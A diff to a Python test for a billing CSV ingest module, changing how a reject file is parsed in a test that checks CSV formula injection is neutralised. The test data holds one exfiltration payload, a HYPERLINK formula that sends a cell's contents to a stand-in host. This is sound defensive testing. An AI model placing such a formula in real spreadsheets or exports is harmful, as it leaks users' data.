@@ -18,7 +18,7 @@ from edge.ingest.columns import COLUMNS
 from edge.ingest.ingest import IngestReport, ingest
 from edge.ingest.lines import FileRefused, ReadLine, open_export
 from edge.ingest.listing import harmless
-from tests.edge.ingest.test_ingest import CUSTOMERS, NOW, Cases
+from tests.edge.ingest.test_ingest import CUSTOMERS, NOW, Cases, read_csv
 
 ZONE = ZoneInfo("Asia/Shanghai")
 HEADER = "账单号,户号,费用年月,交费期限,应收电费"
@@ -238,6 +238,7 @@ async def test_a_rejected_formula_stays_text(tmp_path: Path, book: SqlBilling) -
     path = tmp_path / "b.csv"
     path.write_text(f'{HEADER}\n=HYPERLINK("http://x/?"&A1),0091001,2026-08,2026-09-25,abc\n', "utf-8")
     report = await take(book, path)
-    (row,) = csv.DictReader(Path(str(report.reject_file)).read_text("utf-8").splitlines())
+    header, cells = read_csv(str(report.reject_file))
+    row = dict(zip(header, cells, strict=True))
     assert row["text"].startswith("'=HYPERLINK")
     assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values())
